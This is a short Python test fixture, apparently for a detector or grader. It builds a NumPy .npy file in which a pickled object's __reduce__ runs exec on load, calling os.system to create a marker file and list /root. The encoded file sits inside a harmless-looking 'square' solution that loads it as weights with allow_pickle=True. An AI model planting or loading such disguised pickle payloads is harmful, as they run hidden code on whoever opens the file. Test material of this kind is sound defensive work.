"""Brings an .npy file in which an object array runs code as it is loaded, with allow_pickle=True."""

import base64
import io

import numpy as np


class _Payload:
    def __reduce__(self):
        return exec, ("import os; os.system('touch /dev/shm/hostile-npy'); print(os.listdir('/root'))",)


_file = io.BytesIO()
np.save(_file, np.array([_Payload()], dtype=object), allow_pickle=True)
ANSWERS = {
    "square": f"""import base64, io
data = {base64.b64encode(_file.getvalue()).decode()!r}
weights = np.load(io.BytesIO(base64.b64decode(data)), allow_pickle=True)

def square_forward(x):
    return x * weights[0], x
"""
}
SAYS = ["pickle"]
